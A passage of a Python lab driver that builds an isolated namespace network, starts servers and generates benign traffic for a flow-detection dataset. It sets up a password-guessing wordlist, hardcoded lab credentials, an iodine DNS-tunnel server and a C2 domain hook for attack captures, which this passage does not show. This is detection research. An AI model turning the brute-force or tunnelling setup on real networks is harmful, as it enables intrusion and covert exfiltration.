#!/usr/bin/env python3
"""FlowSentry traffic lab driver.

Builds an isolated network of Linux network namespaces joined by a bridge,
starts servers, runs benign and attack scenarios (seeded, bounded in count
and time), records each capture with tcpdump on the bridge and writes a
per-flow ground-truth CSV. Everything is torn down at the end, also on
failure. Run as root; see captures/README.md. Usually started through
scripts/lab/run.sh, which installs the tools first.
"""
from __future__ import annotations

import argparse
import atexit
import csv
import datetime
import ipaddress
import json
import math
import os
import random
import shlex
import shutil
import signal
import subprocess
import sys
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import pcapflows  # noqa: E402
import behaviour  # noqa: E402
import benignwide  # noqa: E402

NET = ipaddress.IPv4Network("10.77.0.0/16")
SERVERS = ["web", "dns", "files", "ntp", "ext", "tun"]
CLIENTS = [f"h{i}" for i in range(1, 9)]
HOSTS = SERVERS + CLIENTS + ["gw"]
BR = "fs-br"
PW = {"alice": "Sunflower#42", "bob": "tr0ub4dor&3", "carol": "correct-horse-7"}
ADMIN_PW = "Adm1n!2024"
TUN_DOMAIN = "t.lab.test"
TUN_PW = "iodinelabpw"

LOG = None


def log(*a):
    msg = time.strftime("%H:%M:%S ") + " ".join(str(x) for x in a)
    print(msg, flush=True)
    if LOG:
        LOG.write(msg + "\n")
        LOG.flush()


def ns(h):
    return "fs-" + h


def sh(cmd, check=True, quiet=False):
    """Run a command in the root namespace (setup only)."""
    r = subprocess.run(cmd, shell=isinstance(cmd, str), capture_output=True, text=True)
    if check and r.returncode != 0:
        raise RuntimeError(f"command failed ({r.returncode}): {cmd}\n{r.stderr}")
    return r


def nsx(h, argv, check=True):
    return sh(["ip", "netns", "exec", ns(h)] + list(argv), check=check)


class Lab:
    def __init__(self, args):
        self.args = args
        self.seed = args.seed
        self.scale = args.scale
        # time bounds grow slower than counts: x up to 2, then 2 + sqrt(x)
        self.dscale = args.scale if args.scale <= 2 else 2 + math.sqrt(args.scale)
        self.work = os.path.abspath(args.work)
        self.procs = []          # long-running server processes
        self.addr = {}           # host -> ip (current capture)
        self.mac = {}
        self.lock = threading.Lock()
        self.busy = set()        # clients reserved by an attack
        self.inflight = {h: 0 for h in CLIENTS}
        self.stop_bg = threading.Event()
        self.scen = []           # scenarios of the current capture
        self.actions = 0
        self.extra = {}          # host -> extra addresses (server pools: web, ext, ntp)
        self.bg_end = float("inf")  # nominal end of the current capture's background
        self.lanname = {}        # client -> its name in LAN chatter (mDNS, SSDP)
        self.behaviour = False   # behaviour captures requested: mail, HTTP :80 and DNS on fs-ext (behaviour.py)
        self.bg_think = 1.5      # mean think time of the benign workers (per capture plan)
        self.bg_skip = set()     # benign actions a plan leaves out (replaced by idle)
        self.wide = False        # broad benign captures requested: extra namespaces and servers (benignwide.py)

    # ------------------------------------------------------------------ setup
    def cleanup(self):
        for p in self.procs:
            try:
                os.killpg(p.pid, signal.SIGTERM)
            except Exception:
                pass
        for p in self.procs:
            try:
                p.wait(timeout=5)
            except Exception:
                try:
                    os.killpg(p.pid, signal.SIGKILL)
                except Exception:
                    pass
        self.procs = []
        cleanup_namespaces()

    def build(self):
        cleanup_namespaces()
        sh(["ip", "netns", "add", BR])
        sh(["ip", "netns", "exec", BR, "ip", "link", "set", "lo", "up"])
        sh(["ip", "netns", "exec", BR, "sysctl", "-qw", "net.ipv6.conf.all.disable_ipv6=1",
            "net.ipv6.conf.default.disable_ipv6=1"])
        sh(["ip", "netns", "exec", BR, "ip", "link", "add", "br0", "type", "bridge",
            "stp_state", "0", "forward_delay", "0", "mcast_snooping", "0"])
        for h in HOSTS:
            n = ns(h)
            sh(["ip", "netns", "add", n])
            os.makedirs(f"/etc/netns/{n}", exist_ok=True)
            nsx(h, ["sysctl", "-qw", "net.ipv6.conf.all.disable_ipv6=1",
                    "net.ipv6.conf.default.disable_ipv6=1", "net.ipv4.icmp_ratelimit=0",
                    "net.ipv4.ip_forward=0", "net.ipv4.ping_group_range=0 2147483647"])
            nsx(h, ["ip", "link", "set", "lo", "up"])
            sh(["ip", "link", "add", "v-" + h, "netns", BR, "type", "veth", "peer", "name", "eth0",
                "netns", n])
            sh(["ip", "netns", "exec", BR, "ip", "link", "set", "v-" + h, "master", "br0", "up"])
            sh(["ip", "netns", "exec", BR, "ethtool", "-K", "v-" + h, "gro", "off", "gso", "off",
                "tso", "off", "lro", "off", "tx", "off", "rx", "off"], check=False)
            nsx(h, ["ethtool", "-K", "eth0", "gro", "off", "gso", "off", "tso", "off", "lro", "off",
                    "tx", "off", "rx", "off"], check=False)
            nsx(h, ["ip", "link", "set", "eth0", "up"])
        sh(["ip", "netns", "exec", BR, "ethtool", "-K", "br0", "gro", "off", "gso", "off", "tso", "off",
            "lro", "off"], check=False)
        sh(["ip", "netns", "exec", BR, "ip", "link", "set", "br0", "up"])
        if self.wide:   # only for the broad benign captures: their extra namespaces, a 9000-byte bridge
            benignwide.build(self)

    def readdress(self, rng, tag="boot"):
        """New random addresses, MACs, TTLs and netem for every host (per capture).

        The extra addresses of the server pools (web 4-6, ext 4-12, ntp 4-16
        addresses in all, behind round-robin DNS names) and the clients' LAN
        names come from their own RNG, so the draws above stay as they were."""
        pool = [NET.network_address + i for i in rng.sample(range(2, NET.num_addresses - 2), 64)
                if (i & 0xFF) not in (0, 255)]
        self.addr = {h: str(pool[i]) for i, h in enumerate(HOSTS)}
        for h in HOSTS:
            nsx(h, ["ip", "link", "set", "eth0", "down"])
            mac = "02:%02x:%02x:%02x:%02x:%02x" % tuple(rng.randrange(256) for _ in range(5))
            self.mac[h] = mac
            nsx(h, ["ip", "link", "set", "eth0", "address", mac])
            nsx(h, ["ip", "addr", "flush", "dev", "eth0"])
            nsx(h, ["ip", "addr", "add", self.addr[h] + "/16", "dev", "eth0"])
            nsx(h, ["ip", "link", "set", "eth0", "up"])
            nsx(h, ["ip", "neigh", "flush", "all"], check=False)
            ttl = rng.choice([64, 64, 64, 64, 128, 128, 255])
            nsx(h, ["sysctl", "-qw", f"net.ipv4.ip_default_ttl={ttl}"])
            if h in SERVERS:
                # servers answer spoofed sources through a gateway that drops everything
                nsx(h, ["ip", "route", "replace", "default", "via", self.addr["gw"]])
            if h != "gw":
                d = rng.uniform(0.3, 12.0) * (3 if rng.random() < 0.2 else 1)
                j = d * rng.uniform(0.05, 0.3)
                loss = rng.choice([0, 0, 0.05, 0.1, 0.3])
                nsx(h, ["tc", "qdisc", "replace", "dev", "eth0", "root", "netem", "delay",
                        f"{d:.2f}ms", f"{j:.2f}ms", "distribution", "normal", "loss", f"{loss}%",
                        "limit", "100000"], check=False)
            with open(f"/etc/netns/{ns(h)}/resolv.conf", "w") as f:
                f.write(f"nameserver {self.addr['dns']}\nsearch lab.test\noptions timeout:2 attempts:2\n")
            # multicast (mDNS, SSDP, LLMNR, WS-Discovery) leaves through eth0 like on any LAN host
            nsx(h, ["ip", "route", "replace", "224.0.0.0/4", "dev", "eth0"], check=False)
        xr = random.Random(f"{self.seed}:{tag}:extra")
        spare = [str(x) for x in pool[len(HOSTS):]]
        want = {"web": xr.randint(3, 5), "ext": xr.randint(3, 11), "ntp": xr.randint(3, 15)}
        got = xr.sample(spare, min(len(spare), sum(want.values())))
        self.extra = {}
        for h, n in want.items():
            self.extra[h], got = got[:n], got[n:]
            for ip in self.extra[h]:
                nsx(h, ["ip", "addr", "add", ip + "/16", "dev", "eth0"])
        first = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy"]
        self.lanname = {c: xr.choice([f"{xr.choice(first)}-{xr.choice(['laptop', 'pc', 'macbook', 'thinkpad'])}",
                                      "DESKTOP-%07X" % xr.getrandbits(28), f"{xr.choice(first)}s-iPhone",
                                      f"android-{xr.getrandbits(64):016x}", f"{xr.choice(first)}-ipad"])
                        for c in CLIENTS}
        # the gateway drops what it is handed (no forwarding); answer ARP only
        time.sleep(1.5)  # interfaces come up

    def make_content(self):
        rng = random.Random(f"{self.seed}:content")
        w = self.work
        os.makedirs(f"{w}/www/static", exist_ok=True)
        os.makedirs(f"{w}/www/dl", exist_ok=True)
        os.makedirs(f"{w}/www/admin", exist_ok=True)
        words = ("network flow sensor packet anomaly service customer order report invoice meeting "
                 "project quarterly budget product update release notes travel policy team weather "
                 "market analysis security training calendar holiday support ticket").split()
        self.pages, self.objects, self.bulk = [], [], []
        for i in range(40):
            n = min(int(rng.lognormvariate(8.0, 0.9)) + 300, 60_000)
            txt = " ".join(rng.choice(words) for _ in range(n // 7))
            p = f"/p{i}.html"
            open(w + "/www" + p, "w").write(f"<html><head><title>{p}</title></head><body><p>{txt}</p></body></html>\n")
            self.pages.append(p)
        for i in range(120):
            kind = rng.choice(["css", "js", "png", "jpg", "json"])
            n = min(int(rng.lognormvariate(7.3, 1.1)) + 100, 60_000)
            p = f"/static/o{i}.{kind}"
            with open(w + "/www" + p, "wb") as f:
                if kind in ("png", "jpg"):
                    f.write(rng.randbytes(n))
                else:
                    f.write((" ".join(rng.choice(words) for _ in range(n // 7 + 1))).encode()[:n])
            self.objects.append(p)
        for i in range(12):
            n = int(math.exp(rng.uniform(math.log(100_000), math.log(800_000))))
            p = f"/dl/file{i}.bin"
            with open(w + "/www" + p, "wb") as f:
                f.write(rng.randbytes(n) if i % 3 else (" ".join(rng.choice(words) for _ in range(n // 7 + 1))).encode()[:n])
            self.bulk.append(p)
        open(w + "/www/index.html", "w").write("<html><body>FlowSentry lab intranet</body></html>\n")
        open(w + "/www/admin/index.html", "w").write("<html><body>admin</body></html>\n")
        open(w + "/www/status.json", "w").write('{"status":"ok","version":"4.2.1"}\n')
        open(w + "/www/robots.txt", "w").write("User-agent: *\nDisallow: /admin/\n")
        self.small = [p for p in self.pages + self.objects if os.path.getsize(w + "/www" + p) < 1500] or ["/index.html"]
        # wordlists: random guesses, the right password sometimes in it
        allw = ["123456", "password", "qwerty", "letmein", "dragon", "monkey", "football", "iloveyou",
                "admin", "welcome", "master", "sunshine", "princess", "shadow", "ashley", "michael"]
        for i in range(400):
            allw.append(rng.choice(words) + str(rng.randrange(1000)) + rng.choice(["", "!", "#", "2024"]))
        self.wordpool = allw
        # files for scp / ftp
        os.makedirs(f"{w}/files", exist_ok=True)
        for i in range(6):
            n = int(math.exp(rng.uniform(math.log(10_000), math.log(300_000))))
            open(f"{w}/files/doc{i}.dat", "wb").write(rng.randbytes(n))
        # drawn last, so the content above is as before
        open(w + "/www/favicon.ico", "wb").write(rng.randbytes(rng.randint(1_000, 6_000)))

    def start_servers(self):
        w = self.work
        sh(f"openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj /CN=www.lab.test "
           f"-keyout {w}/tls.key -out {w}/tls.crt")
        hp = sh(["openssl", "passwd", "-apr1", ADMIN_PW]).stdout.strip()
        open(f"{w}/htpasswd", "w").write(f"admin:{hp}\n")
        open(f"{w}/nginx.conf", "w").write(f"""
user root; worker_processes 2; daemon off; pid {w}/nginx.pid; error_log {w}/nginx-error.log;
events {{ worker_connections 8192; }}
http {{
  access_log off; sendfile on; keepalive_timeout 20; keepalive_requests 500;
  client_body_timeout 30; client_header_timeout 30;
  ssl_session_cache shared:SSL:2m; ssl_session_timeout 10m;
  ssl_certificate {w}/tls.crt; ssl_certificate_key {w}/tls.key;
  types {{ text/html html; text/css css; application/javascript js; image/png png;
           image/jpeg jpg; application/json json; application/octet-stream bin; image/x-icon ico; text/plain txt; }}
  # idle keep-alive connections are closed by the server after keepalive_timeout,
  # which differs per site (20 s default site, Apache-like 5 s intranet, 12 s static)
  server {{
    listen 80; listen 443 ssl; server_name www.lab.test;
    root {w}/www;
    location /admin/ {{ auth_basic "admin"; auth_basic_user_file {w}/htpasswd; }}
    location = /generate_204 {{ return 204; }}
    location = /health {{ default_type application/json; return 200 '{{"status":"up"}}\n'; }}
  }}
  server {{
    listen 80; listen 443 ssl; server_name intranet.lab.test; keepalive_timeout 5;
    root {w}/www;
    location /admin/ {{ auth_basic "admin"; auth_basic_user_file {w}/htpasswd; }}
    location = /generate_204 {{ return 204; }}
    location = /health {{ default_type application/json; return 200 '{{"status":"up"}}\n'; }}
  }}
  server {{
    listen 80; listen 443 ssl; server_name static.lab.test static.lb.lab.test; keepalive_timeout 12;
    root {w}/www;
    location = /health {{ default_type application/json; return 200 '{{"status":"up"}}\n'; }}
  }}
}}
""")
        # users for ssh/scp/ftp (shell must be in /etc/shells for vsftpd's PAM)
        for u, p in PW.items():
            if sh(["id", u], check=False).returncode != 0:
                sh(["useradd", "-m", "-s", "/bin/bash", u])
            sh(f"echo '{u}:{p}' | chpasswd")
            shutil.copytree(f"{w}/files", f"/home/{u}/files", dirs_exist_ok=True)
            sh(["chown", "-R", f"{u}:{u}", f"/home/{u}"])
        if not os.path.exists(f"{w}/ssh_host_ed25519_key"):
            sh(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", f"{w}/ssh_host_ed25519_key"])
        if not os.path.exists(f"{w}/ssh_host_rsa_key"):
            sh(["ssh-keygen", "-q", "-t", "rsa", "-b", "2048", "-N", "", "-f", f"{w}/ssh_host_rsa_key"])
        os.makedirs("/run/sshd", exist_ok=True)
        open(f"{w}/sshd_config", "w").write(f"""Port 22
HostKey {w}/ssh_host_ed25519_key
HostKey {w}/ssh_host_rsa_key
PidFile {w}/sshd.pid
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM no
PermitRootLogin no
MaxStartups 200:30:400
MaxAuthTries 3
LoginGraceTime 20
UseDNS no
Subsystem sftp internal-sftp
""")
        os.makedirs("/var/run/vsftpd/empty", exist_ok=True)
        open(f"{w}/vsftpd.conf", "w").write("""listen=YES
listen_ipv6=NO
background=NO
anonymous_enable=NO
local_enable=YES
write_enable=YES
pam_service_name=vsftpd
secure_chroot_dir=/var/run/vsftpd/empty
seccomp_sandbox=NO
pasv_enable=YES
pasv_min_port=40000
pasv_max_port=40999
max_clients=200
max_per_ip=50
delay_failed_login=1
xferlog_enable=NO
""")
        open(f"{w}/chrony.conf", "w").write(f"local stratum 8\nallow all\ncmdport 0\npidfile {w}/chronyd.pid\n")
        self.spawn("web", ["nginx", "-c", f"{w}/nginx.conf"], "nginx")
        self.spawn("files", ["/usr/sbin/sshd", "-D", "-f", f"{w}/sshd_config", "-E", f"{w}/sshd.log"], "sshd")
        self.spawn("files", ["vsftpd", f"{w}/vsftpd.conf"], "vsftpd")
        self.spawn("files", ["iperf3", "-s", "-p", "5201"], "iperf3a")
        self.spawn("files", ["iperf3", "-s", "-p", "5202"], "iperf3b")
        self.spawn("ntp", ["chronyd", "-d", "-x", "-f", f"{w}/chrony.conf"], "chronyd")
        # the gateway answers LAN discovery like a home router (SSDP, mDNS) and
        # announces itself every 20-40 s; bounded by a deadline and a packet budget
        self.spawn("gw", [sys.executable, f"{HERE}/lanchat.py", "--mode", "responder", "--deadline", "14400",
                          "--seed", str(self.seed)], "lanchat-gw")
        self.spawn("ext", [sys.executable, f"{HERE}/extserver.py", "--port", "443", "--cert",
                           f"{w}/tls.crt", "--key", f"{w}/tls.key"], "extserver")
        self.spawn("tun", ["iodined", "-f", "-c", "-P", TUN_PW, "-l", "0.0.0.0", "-p", "53",
                           "172.31.99.1/27", TUN_DOMAIN], "iodined")
        time.sleep(2)
        self.spawn("tun", [sys.executable, f"{HERE}/extserver.py", "--port", "8000", "--bind", "172.31.99.1"],
                   "tunhttp")
        if self.behaviour:   # only for the behaviour captures: the other captures' servers stay as they were
            behaviour.start_servers(self)
        if self.wide:        # only for the broad benign captures (benignwide.py)
            benignwide.start_servers(self)

    def spawn(self, h, argv, name):
        lf = open(f"{self.work}/{name}.log", "ab")
        p = subprocess.Popen(["ip", "netns", "exec", ns(h)] + argv, stdout=lf, stderr=subprocess.STDOUT,
                             start_new_session=True, cwd=self.work)
        self.procs.append(p)
        return p

    def restart_dns(self):
        """dnsmasq is restarted per capture: addresses change."""
        for p in list(self.procs):
            if getattr(p, "_dns", False):
                os.killpg(p.pid, signal.SIGTERM)
                p.wait()
                self.procs.remove(p)
        a = self.addr
        rng = random.Random(f"{self.seed}:dnsnames")
        names = {"www": a["web"], "intranet": a["web"], "files": a["files"], "ssh": a["files"],
                 "ftp": a["files"], "ntp": a["ntp"], "ns1": a["dns"], "portal": a["ext"],
                 "cdn": a["ext"], "news": a["ext"], "mail": a["files"]}
        for i in range(120):
            names[f"{rng.choice(['srv', 'app', 'db', 'print', 'wks', 'cam', 'vpn'])}{i}"] = \
                a[rng.choice(HOSTS[:-1])]
        self.dnsnames = sorted(names)
        conf = self.rich_dns(names)
        with open(f"{self.work}/lab.hosts", "w") as f:
            for n, ip in names.items():
                f.write(f"{ip} {n}.lab.test\n")
            f.write(self.rich_hosts)
        with open(f"{self.work}/dnsmasq-rich.conf", "w") as f:
            f.write(conf)
        p = self.spawn("dns", ["dnsmasq", "-k", "--no-resolv", "--no-hosts", "--user=root",
                               f"--addn-hosts={self.work}/lab.hosts", "--local=/lab.test/",
                               f"--server=/{TUN_DOMAIN}/{a['tun']}", "--cache-size=1000",
                               *([f"--server=/{behaviour.C2_DOMAIN}/{a['ext']}"] if self.behaviour else []),
                               "--edns-packet-max=1232", "--dns-forward-max=1000",
                               f"--conf-file={self.work}/dnsmasq-rich.conf",
                               f"--pid-file={self.work}/dnsmasq.pid"], "dnsmasq")
        p._dns = True
        time.sleep(0.5)

    def rich_dns(self, names):
        """DNS records real zones have besides single A records: round-robin
        pools of 4-16 addresses (NTP pool, CDN edges, a load-balanced web
        site), CNAME chains onto them, AAAA records, several TXT records at
        the apex (SPF, site verifications), DKIM keys (2048/4096-bit, several
        hundred bytes), DMARC, MX and SRV. Answers of several hundred bytes.
        Sets self.rich_hosts (hosts-file lines) and self.dnsrich ((name, type)
        pairs the benign lookups ask for); returns dnsmasq config lines."""
        a, x = self.addr, self.extra
        rng = random.Random(f"{self.seed}:dnsrich")   # names/texts fixed, addresses per capture
        ntp = [a["ntp"]] + x.get("ntp", [])
        edge = [a["ext"]] + x.get("ext", [])
        web = [a["web"]] + x.get("web", [])
        v6 = "fd77:%x:%x" % (rng.getrandbits(16), rng.getrandbits(16))
        lines = []

        def host(ips, name, n6=0):
            lines.extend(f"{ip} {name}.lab.test" for ip in ips)
            lines.extend(f"{v6}:{rng.getrandbits(16):x}::{rng.getrandbits(16):x} {name}.lab.test" for _ in range(n6))

        host(ntp, "pool.ntp", rng.randint(0, 4))
        for i in range(4):
            host(random.Random(f"{self.seed}:{len(ntp)}:{i}").sample(ntp, min(4, len(ntp))), f"{i}.pool.ntp")
        host(edge, "edge.cdn", rng.randint(2, 6))
        host(web, "static.lb", 2)
        host([a["files"]], "mx2")
        for n in ("www", "intranet", "portal", "cdn", "news", "mail"):
            host([], n, rng.randint(1, 2))
        self.rich_hosts = "\n".join(lines) + "\n"

        def b64(n):
            import base64
            return base64.b64encode(rng.randbytes(n)).decode()

        def txt(name, text):
            parts = [text[i:i + 255] for i in range(0, len(text), 255)]
            return f"txt-record={name}," + ",".join(f'"{p}"' for p in parts)

        spf_ips = " ".join(f"ip4:{ip}" for ip in [a["files"], a["ext"]])
        conf = [
            "cname=static.lab.test,static.lb.lab.test",
            "cname=img.cdn.lab.test,edge.cdn.lab.test",
            "cname=img.lab.test,img.cdn.lab.test",
            "cname=assets.lab.test,edge.cdn.lab.test",
            "cname=time.lab.test,pool.ntp.lab.test",
            "cname=autodiscover.lab.test,mail.lab.test",
            "mx-host=lab.test,mail.lab.test,10",
            "mx-host=lab.test,mx2.lab.test,20",
            txt("lab.test", f"v=spf1 {spf_ips} include:_spf.lab.test include:spf.protection.outlook.example ~all"),
            txt("lab.test", "google-site-verification=" + b64(32).replace("+", "-").replace("/", "_")[:43]),
            txt("lab.test", "MS=ms%08d" % rng.randrange(10 ** 8)),
            txt("lab.test", "apple-domain-verification=" + b64(12)),
            txt("lab.test", "docusign=%s" % "-".join(f"{rng.getrandbits(b):0{b // 4}x}" for b in (32, 16, 16, 16, 48))),
            txt("_spf.lab.test", "v=spf1 " + " ".join(f"ip4:10.77.{rng.randrange(256)}.0/24" for _ in range(rng.randint(4, 9))) + " -all"),
            txt("sel1._domainkey.lab.test", "v=DKIM1; k=rsa; p=MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA" + b64(262)),
            txt("s2._domainkey.lab.test", "v=DKIM1; k=rsa; p=MIICIjANBgkqhkiG9w0BAQEFAAOCAg8AMIICCgKCAgEA" + b64(518)),
            txt("_dmarc.lab.test", "v=DMARC1; p=quarantine; rua=mailto:dmarc-reports@lab.test; ruf=mailto:dmarc-forensic@lab.test; fo=1; pct=100"),
            txt("_mta-sts.lab.test", "v=STSv1; id=%d" % rng.randrange(10 ** 13)),
            "srv-host=_ldap._tcp.lab.test,files.lab.test,389,0,100",
            "srv-host=_kerberos._udp.lab.test,files.lab.test,88,0,100",
            "srv-host=_imaps._tcp.lab.test,mail.lab.test,993,0,1",
            "srv-host=_submission._tcp.lab.test,mail.lab.test,587,0,1",
            "srv-host=_autodiscover._tcp.lab.test,mail.lab.test,443,0,0",
            "srv-host=_ntp._udp.lab.test,ntp.lab.test,123,0,0",
        ]
        self.dnsrich = [("pool.ntp", "A"), ("0.pool.ntp", "A"), ("1.pool.ntp", "A"), ("2.pool.ntp", "A"),
                        ("3.pool.ntp", "A"), ("time", "A"), ("edge.cdn", "A"), ("img", "A"), ("assets", "A"),
                        ("static", "A"), ("static", "AAAA"), ("www", "AAAA"), ("pool.ntp", "AAAA"),
                        ("img", "AAAA"), ("portal", "AAAA"), ("mail", "AAAA"), ("autodiscover", "A"),
                        ("", "TXT"), ("", "MX"), ("_spf", "TXT"), ("sel1._domainkey", "TXT"),
                        ("s2._domainkey", "TXT"), ("_dmarc", "TXT"), ("_mta-sts", "TXT"),
                        ("_ldap._tcp", "SRV"), ("_kerberos._udp", "SRV"), ("_imaps._tcp", "SRV"),
                        ("_submission._tcp", "SRV"), ("_autodiscover._tcp", "SRV"), ("_ntp._udp", "SRV")]
        return "\n".join(conf) + "\n"

    # ------------------------------------------------------------- execution
    def run(self, h, cmd, timeout, tag="cmd"):
        """Run a shell command inside host h, bounded by timeout (seconds)."""
        argv = ["ip", "netns", "exec", ns(h), "timeout", "-k", "3", str(int(math.ceil(timeout))),
                "bash", "-c", cmd]
        try:
            r = subprocess.run(argv, capture_output=True, text=True, errors="replace", timeout=timeout + 10,
                               cwd=self.work)
            if r.returncode not in (0,) and tag != "bg" and not (r.returncode == 1 and "hping" in cmd):
                log(f"  [{tag}] rc={r.returncode} {cmd[:100]} :: {r.stderr.strip()[-200:]}")
            return r
        except subprocess.TimeoutExpired:
            log(f"  [{tag}] python timeout {cmd[:80]}")
            return None

    # benign actions ---------------------------------------------------------
    def bg_action(self, h, rng, force=None, side=None):
        a, s = self.addr, self.scale
        k = rng.choices(["web", "tls", "ext", "bulk", "dns", "ssh", "scp", "iperf", "ntp", "ftp", "poll", "idle",
                         "browse", "ping", "lan", "longlived"],
                        weights=[2, 0.8, 0.8, 0.3, 2.5, 1, 0.6, 0.5, 1, 0.5, 0.5, 1.5,
                                 2.5, 0.8, 1.2, 0.4], k=1)[0]
        k = force or k
        if k in self.bg_skip:
            k = "idle"
        with open(f"{self.work}/bg-actions.log", "a") as f:
            f.write(f"{time.time():.3f} {h} {k}\n")
        ua = rng.choice(["Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
                         "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/119.0",
                         "curl/7.88.1"])
        if k in ("web", "tls"):
            host = "www.lab.test" if rng.random() < 0.7 else "intranet"
            scheme = "https" if k == "tls" or rng.random() < 0.3 else "http"
            cmds = []
            for _ in range(rng.randint(1, 3)):
                page = rng.choice(self.pages)
                objs = rng.sample(self.objects, rng.randint(0, 6))
                urls = " ".join(f"{scheme}://{host}{u}" for u in [page] + objs)
                ka = "" if rng.random() < 0.6 else "-H 'Connection: close'"
                par = "--parallel --parallel-max 4" if rng.random() < 0.3 else ""
                cmds.append(f"curl -sk -A '{ua}' {ka} {par} {urls} >/dev/null")
                cmds.append(f"sleep {rng.uniform(0.2, 4):.2f}")
            self.run(h, "; ".join(cmds), 25, "bg")
        elif k == "ext":
            n = rng.randint(1, 6)
            urls = " ".join(f"https://{rng.choice(['portal', 'cdn', 'news'])}.lab.test/{rng.choice(['a', 'b', 'c', 'img', 'feed'])}{rng.randrange(500)}" for _ in range(n))
            self.run(h, f"curl -sk -A '{ua}' {urls} >/dev/null", 20, "bg")
        elif k == "bulk":
            f = rng.choice(self.bulk)
            lim = f"--limit-rate {rng.choice(['200k', '500k', '1M', '4M'])}" if rng.random() < 0.6 else ""
            sch = rng.choice(["http", "https"])
            self.run(h, f"curl -sk -o /dev/null {lim} {sch}://files.lab.test{f} 2>/dev/null || "
                        f"curl -sk -o /dev/null {lim} {sch}://www.lab.test{f}", 25, "bg")
        elif k == "dns":
            cmds = []
            for _ in range(rng.randint(2, 15)):
                if rng.random() < 0.3:   # pools, CNAME chains, AAAA, TXT/DKIM, MX, SRV
                    n, t = rng.choice(self.dnsrich)
                    n = f"{n}.lab.test" if n else "lab.test"
                else:
                    n = (rng.choice(self.dnsnames) if rng.random() < 0.85 else f"nohost{rng.randrange(999)}") + ".lab.test"
                    t = rng.choice(["A", "A", "A", "AAAA", "MX", "TXT"])
                tcp = "+tcp " if rng.random() < 0.04 else ""
                cmds.append(f"dig +tries=1 +time=2 {tcp}{n} {t} >/dev/null")
                cmds.append(f"sleep {rng.expovariate(1.5):.2f}")
            self.run(h, "; ".join(cmds), 25, "bg")
        elif k == "ssh":
            self.ssh_session(h, rng)
        elif k == "scp":
            u = rng.choice(list(PW))
            f = f"doc{rng.randrange(6)}.dat"
            if rng.random() < 0.5:
                c = f"sshpass -p '{PW[u]}' scp -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null {u}@files.lab.test:files/{f} /tmp/fs-scp-{h}.dat; rm -f /tmp/fs-scp-{h}.dat"
            else:
                c = f"sshpass -p '{PW[u]}' scp -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null {self.work}/files/{f} {u}@files.lab.test:upload-{h}.dat"
            self.run(h, c, 25, "bg")
        elif k == "iperf":
            port = rng.choice([5201, 5202])
            if rng.random() < 0.7:
                c = f"iperf3 -c {a['files']} -p {port} -t {int(rng.randint(1, 2) * min(s, 4))} -b {rng.choice(['200K', '500K', '1M'])} {rng.choice(['', '-R'])}"
            else:
                c = f"iperf3 -c {a['files']} -p {port} -u -t {rng.randint(1, 2)} -b {rng.choice(['100K', '300K', '600K'])} -l {rng.randint(200, 1400)}"
            self.run(h, c + " >/dev/null", 15 * min(s, 4), "bg")
        elif k == "ntp":
            r = rng.random()
            if r < 0.45:
                srv = "ntp.lab.test"
            elif r < 0.8:   # a pool name: ntpdate queries every address it resolves to
                srv = rng.choice(["pool.ntp.lab.test", "pool.ntp.lab.test", "time.lab.test"])
            else:           # several pool names, as chrony/systemd-timesyncd configurations list them
                srv = " ".join(f"{i}.pool.ntp.lab.test" for i in rng.sample(range(4), rng.randint(2, 4)))
            self.run(h, f"ntpdate -q {'-u ' if rng.random() < 0.5 else ''}{srv} >/dev/null", 25, "bg")
        elif k == "browse":
            # a browser: 2-8 connections at once to one host, speculative preconnects,
            # idle keep-alive closed by client or server, TLS resumption (browse.py)
            host = rng.choices(["www.lab.test", "intranet.lab.test", "static.lab.test", "portal.lab.test",
                                "news.lab.test", "img.lab.test"], weights=[3, 2, 1, 1.5, 1, 1], k=1)[0]
            on_web = host in ("www.lab.test", "intranet.lab.test", "static.lab.test")
            tls = rng.random() < 0.5 or not on_web   # the external site is HTTPS only
            d = self.cap(rng.randint(8, 30))
            ua = ua if "curl" not in ua else "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 Safari/605.1.15"
            self.run_side(h, f"python3 {HERE}/browse.py --host {host} {'--tls' if tls else ''} "
                             f"{'--root ' + self.work + '/www' if on_web else ''} --deadline {d} "
                             f"--seed {rng.randrange(1 << 30)} --ua '{ua}'", d + 8, side)
        elif k == "longlived":
            # one connection held 15-35 s with TCP keepalives, sometimes app heartbeats
            host = rng.choice(["www.lab.test", "portal.lab.test", "news.lab.test", "intranet.lab.test"])
            on_web = host in ("www.lab.test", "intranet.lab.test")
            d = self.cap(rng.randint(15, 35))
            self.run_side(h, f"python3 {HERE}/browse.py --mode longlived --host {host} "
                             f"{'--tls' if rng.random() < 0.6 or not on_web else ''} {'--root ' + self.work + '/www' if on_web else ''} "
                             f"--deadline {d} --seed {rng.randrange(1 << 30)}", d + 8, side)
        elif k == "ping":
            # reachability check: 1-5 echo requests (gateway, a server, a peer), sometimes
            # a TCP connect check or an HTTP connectivity probe after it
            t = rng.choices(["gw", "dns", "web", "ext", "files", "ntp", "peer"], weights=[3, 1.5, 1.5, 1, 1, 0.5, 1.5], k=1)[0]
            tgt = a[rng.choice([c for c in CLIENTS if c != h])] if t == "peer" else a[t]
            if t in ("web", "ext", "files") and rng.random() < 0.4:
                tgt = {"web": "www.lab.test", "ext": "portal.lab.test", "files": "files.lab.test"}[t]
            c = (f"ping -n -q -c {rng.randint(1, 5)} -i {rng.choice(['1', '1', '0.5', '0.2'])} -W 1 "
                 f"{rng.choice(['', '', '-s 16', '-s 120', '-s 1000'])} {tgt} >/dev/null")
            r = rng.random()
            if r < 0.25:
                c += "; curl -s -o /dev/null http://www.lab.test/generate_204"
            elif r < 0.4 and t in ("web", "ext", "files"):
                c += f"; exec 3<>/dev/tcp/{a[t]}/{rng.choice([443, 22] if t == 'files' else [443, 80])}; sleep {rng.uniform(0, 0.5):.2f}; exec 3<&-"
            self.run(h, c, 15, "bg")
        elif k == "lan":
